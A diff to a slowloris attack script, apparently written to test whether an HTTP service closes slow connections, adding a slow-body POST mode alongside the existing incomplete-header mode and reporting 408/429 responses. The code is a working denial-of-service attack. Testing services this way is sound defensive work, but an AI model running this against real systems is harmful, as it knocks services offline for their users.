@@ -1,12 +1,14 @@
 """Attacker for attack 6 of issue 32 (slowloris), run as its own process against an HTTP service.
 
-    python slowloris.py URL [--count 300] [--source 127.0.0.2] [--wait 15]
+    python slowloris.py URL [--count 300] [--source 127.0.0.2] [--wait 15] [--slow-body PATH]
 
 Opens ``count`` TCP connections from ``source`` and sends on each the start of a request head
 that never ends (``GET / HTTP/1.1``, a Host, half a header line). Prints ``{"opened": n}``, then
 watches every socket for up to ``wait`` seconds and prints one JSON line: how many the victim
 closed, what status line each got first (``408``, ``429``, or ``null`` for none), and when (in
-seconds after the last one was opened) the first and last were closed.
+seconds after the last one was opened) the first and last were closed. With ``--slow-body PATH``
+each connection instead sends a whole ``POST PATH`` head announcing a 100,000-byte body, and 10
+bytes of it.
 """
 
 from __future__ import annotations
@@ -26,9 +28,13 @@ def main() -> None:
     parser.add_argument("--count", type=int, default=300)
     parser.add_argument("--source", default="127.0.0.2")
     parser.add_argument("--wait", type=float, default=15.0)
+    parser.add_argument("--slow-body", default=None, metavar="PATH")
     args = parser.parse_args()
     parts = urlsplit(args.url)
     head = f"GET / HTTP/1.1\r\nHost: {parts.hostname}:{parts.port}\r\nX-Slow: ".encode()
+    if args.slow_body:
+        head = (f"POST {args.slow_body} HTTP/1.1\r\nHost: {parts.hostname}:{parts.port}\r\n"
+                "Content-Type: application/msgpack\r\nContent-Length: 100000\r\n\r\n").encode() + bytes(10)
     socks: list[socket.socket] = []
     for _ in range(args.count):
         try:
